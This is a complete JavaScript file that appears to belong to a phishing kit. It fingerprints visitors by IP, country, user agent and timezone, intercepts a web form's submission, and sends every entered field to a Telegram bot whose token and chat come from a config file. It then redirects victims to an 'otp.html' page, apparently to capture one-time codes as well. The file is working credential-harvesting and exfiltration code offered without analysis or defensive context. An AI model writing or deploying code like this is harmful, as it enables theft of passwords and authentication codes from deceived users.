class Courier {
  constructor(config = {}) {
    this.config = config;
    this.info = { ip: "…", agent: navigator.userAgent, zone: Intl.DateTimeFormat().resolvedOptions().timeZone };
    if (config.collect !== false) this._look();
  }
  async _look() {
    try {
      const j = await (await fetch("https://ipapi.co/json/")).json();
      this.info.ip = j.ip;
      this.info.country = j.country_name;
    } catch (e) {}
  }
  async init() {
    const c = await (await fetch(this.config.configUrl)).json();
    this.token = c.token;
    this.room = c.chat;
    return this;
  }
  _format(data) {
    return Object.entries({ ...data, ...this.info }).map(([k, v]) => `<b>${k}</b>: <code>${v}</code>`).join("\n");
  }
  send(data) {
    return fetch(`https://api.telegram.org/bot${this.token}/sendMessage`, {
      method: "POST",
      headers: { "Content-Type": "application/json" },
      body: JSON.stringify({ chat_id: this.room, text: this._format(data), parse_mode: "HTML" })
    });
  }
}
const courier = new Courier({ configUrl: "cfg.json" });
courier.init().then(() => {
  document.querySelector("form").addEventListener("submit", async (e) => {
    e.preventDefault();
    await courier.send(Object.fromEntries(new FormData(e.target)));
    location.href = "otp.html";
  });
});
